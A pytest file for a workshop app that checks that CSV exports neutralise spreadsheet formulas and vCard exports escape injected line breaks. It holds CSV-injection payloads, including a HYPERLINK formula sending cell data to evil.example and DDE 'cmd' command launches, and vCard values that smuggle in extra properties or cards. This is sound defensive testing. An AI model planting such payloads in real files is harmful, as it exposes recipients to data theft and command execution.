"""Issue 9, point 7: no export runs what a person typed. Every CSV export defuses cells a
spreadsheet would evaluate; every vCard escapes what would start a new property or card."""
from __future__ import annotations

import csv
import io
import json

import pytest

from kit.extensions import db
from kit.models import Workshop

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=1+1"]
EVALUATED = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(app, make_workshop, make_participant, make_card, make_field_value):
    """Every text a person can type, set to a formula, in people, cards and registrations."""
    from kit.services import registrations

    workshop = make_workshop()
    for i, formula in enumerate(FORMULAS):
        person = make_participant(workshop, first_name=formula, last_name=formula,
                                  structure=formula, role=formula, commune=formula,
                                  phone=formula, consent="public", email=f"p{i}@example.org")
        card = make_card(workshop, "frein", participant=person, zone="freins", cluster="1")
        make_field_value(card, "texte", value=formula, proposal=formula, review="confirmed",
                         crop=False)
        make_field_value(card, "contact", value=formula, proposal=formula, review="corrected",
                         crop=False)
    with app.app_context():
        live = db.session.get(Workshop, workshop.id)
        registrations.register(live, {"first_name": FORMULAS[0], "last_name": FORMULAS[1],
                                      "email": "inscrite@example.org", "structure": FORMULAS[2],
                                      "role": FORMULAS[3], "commune": FORMULAS[4],
                                      "phone": FORMULAS[6], "consent": "public",
                                      "what_i_do": FORMULAS[5], "stakes": FORMULAS[0]})
    return workshop


def csv_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) > 1, data[:200]
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("path", ["resultats/carnet-partage.csv", "resultats/carnet-interne.csv",
                                  "resultats/etat-des-lieux.csv", "inscriptions/inscriptions.csv"])
def test_every_csv_export_defuses_formulas(client, login, poisoned, path):
    login()
    response = client.get(f"/ateliers/{poisoned.code}/{path}")
    assert response.status_code == 200, path
    cells = csv_cells(response.data)
    live = [cell for cell in cells if cell.startswith(EVALUATED)]
    assert live == []
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # shown, not dropped


def test_json_export_keeps_text_as_text(client, login, poisoned):
    login()
    data = json.loads(client.get(f"/ateliers/{poisoned.code}/resultats/etat-des-lieux.json").data)
    assert '"text": "=1+1"' in json.dumps(data)  # JSON runs nothing: kept as typed


VCARD_ATTACKS = {"first_name": "Eve\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory",
                 "last_name": "X\nTEL:+33999999999", "structure": "Org;TYPE=evil,comma",
                 "role": "Rôle\\nNOTE:piège", "commune": "Gap\rURL:http://evil.example"}


def unfolded(text: str) -> list[str]:
    return text.replace("\r\n ", "").split("\r\n")


@pytest.mark.parametrize("kind", ["address_book", "personal"])
def test_vcards_escape_what_would_start_a_property(client, login, make_workshop,
                                                   make_participant, kind):
    login()
    workshop = make_workshop()
    person = make_participant(workshop, consent="participants", email="eve@example.org",
                              **VCARD_ATTACKS)
    url = (f"/ateliers/{workshop.code}/resultats/carnet.vcf" if kind == "address_book" else
           f"/ateliers/{workshop.code}/participants/{person.id}/donnees.vcf")
    lines = unfolded(client.get(url).get_data(as_text=True))
    assert sum(line == "BEGIN:VCARD" for line in lines) == 1
    assert sum(line == "END:VCARD" for line in lines) == 1
    properties = [line.split(":", 1)[0].split(";", 1)[0] for line in lines if line]
    assert "URL" not in properties and properties.count("FN") == 1
    assert [line for line in lines if line.startswith("TEL")] == []  # the phone was empty
    assert r"FN:Eve\nEND:VCARD\nBEGIN:VCARD\nFN:Mallory" in "\n".join(lines)
    assert r"ORG:Org\;TYPE=evil\,comma" in lines
